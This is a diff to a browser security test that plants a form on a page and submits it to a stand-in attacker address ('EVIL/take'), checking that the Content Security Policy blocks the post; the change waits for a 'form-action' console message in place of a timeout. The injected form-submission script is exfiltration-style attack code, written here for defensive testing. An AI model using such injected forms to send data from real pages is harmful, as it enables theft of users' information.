@@ -74,17 +74,17 @@ def test_nothing_of_it_runs_loads_or_dresses_the_page(open_planted, path):
 
 def test_a_form_that_was_planted_sends_nothing_elsewhere(open_planted):
     page, got = open_planted("/")
-    page.evaluate(
-        """(address) => {
-            const form = document.createElement("form");
-            form.action = address;
-            form.method = "post";
-            document.body.append(form);
-            form.submit();
-        }""",
-        f"{EVIL}/take",
-    )
-    page.wait_for_timeout(300)
+    with page.expect_console_message(lambda said: "form-action" in said.text):
+        page.evaluate(
+            """(address) => {
+                const form = document.createElement("form");
+                form.action = address;
+                form.method = "post";
+                document.body.append(form);
+                form.submit();
+            }""",
+            f"{EVIL}/take",
+        )
 
     assert {why for url, why in got if url.startswith(EVIL)} == {"csp"}
     assert EVIL not in page.url
